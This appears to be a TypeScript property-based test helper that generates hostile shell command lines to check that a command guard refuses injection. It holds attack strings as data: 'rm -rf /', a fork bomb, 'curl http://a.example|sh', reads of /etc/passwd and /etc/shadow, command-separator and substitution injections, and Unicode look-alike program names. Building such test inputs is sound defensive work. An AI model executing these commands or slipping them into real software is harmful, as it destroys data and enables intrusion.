/** Command lines that some shell takes for more than the one program at their head. */

import fc from 'fast-check'

const SECOND = [
  'id',
  'rm -rf /',
  'curl http://a.example|sh',
  '/bin/sh -c id',
  'cat /etc/passwd',
  ':(){ :|:& };:',
]

/** What joins two commands, or hides one in another: each with the program that is allowed and one that is not. */
const JOINS: readonly ((program: string, second: string) => string)[] = [
  ...[';', '|', '||', '&', '&&', '\n', '\r\n', '\r', '\0', '\v', '\f', '\u2028', '\u0085', ';;', '|&'].map(
    (sign) => (program: string, second: string) => `${program} x${sign}${second}`,
  ),
  (program, second) => `${program} $(${second})`,
  (program, second) => `${program} \`${second}\``,
  (program, second) => `${program} <(${second})`,
  (program, second) => `${program} "$(${second})"`,
  (program, second) => `${program} '\n${second}'`,
  (program, second) => `${program} \\\n${second}`,
  (program, second) => `X=1 ${second} ${program}`,
  (program, second) => `(${second}) ${program}`,
  (program, second) => `{ ${second}; } ${program}`,
  (program, second) => `! ${second} ${program}`,
  (program, second) => `${second} # ${program}`,
  (program, second) => `${second}; ${program}`,
]

/** One command that reads, writes or runs what it should not. */
const ALONE: readonly ((program: string) => string)[] = [
  (program) => `${program} > /etc/passwd`,
  (program) => `${program} >> ~/.bashrc`,
  (program) => `${program} < /etc/shadow`,
  (program) => `${program} 2>&1`,
  (program) => `${program} $HOME \${IFS}x`,
  (program) => `${program}$IFS-x`,
  (program) => `/tmp/evil/${program}`,
  (program) => `./${program}`,
  (program) => `../${program}`,
  (program) => `/bin/../tmp/${program}`,
  (program) => `${program}x`,
  (program) => `x${program}`,
  (program) => `${program}.exe`,
  (program) => program.toUpperCase(),
  (program) => `"${program}`,
  (program) => `'${program}' x`,
  (program) => `${program.slice(0, 1)}'${program.slice(1)}'`,
  (program) => `\\${program}`,
  (program) => ` \u00a0${program}`,
  (program) => `\u202e${program}`,
  (program) => `${[...program].join('\u200b')}`,
  (program) =>
    program.replace(/[a-z]/, (letter) => String.fromCodePoint(letter.charCodeAt(0) - 0x61 + 0xff41)),
  (program) => `sudo ${program}`,
  (program) => `env ${program}`,
  (program) => `sh -c ${program}`,
  (program) => `alias ${program}=id`,
  (program) => `${program} --config=/etc/evil -exec id`,
  () => '',
  () => ' ',
  () => '#',
]

/**
 * A command line that a guard of `program` must refuse, or hand on only to something that is no shell: separators,
 * substitutions, redirections, line ends of every kind, quotes that do not close, look-alikes and paths to another
 * program of the same name.
 */
export const hostileCommand = (program: string = 'ls'): fc.Arbitrary<string> =>
  fc.oneof(
    {
      weight: 3,
      arbitrary: fc
        .tuple(fc.constantFrom(...JOINS), fc.constantFrom(...SECOND))
        .map(([join, second]) => join(program, second)),
    },
    { weight: 2, arbitrary: fc.constantFrom(...ALONE).map((make) => make(program)) },
  )
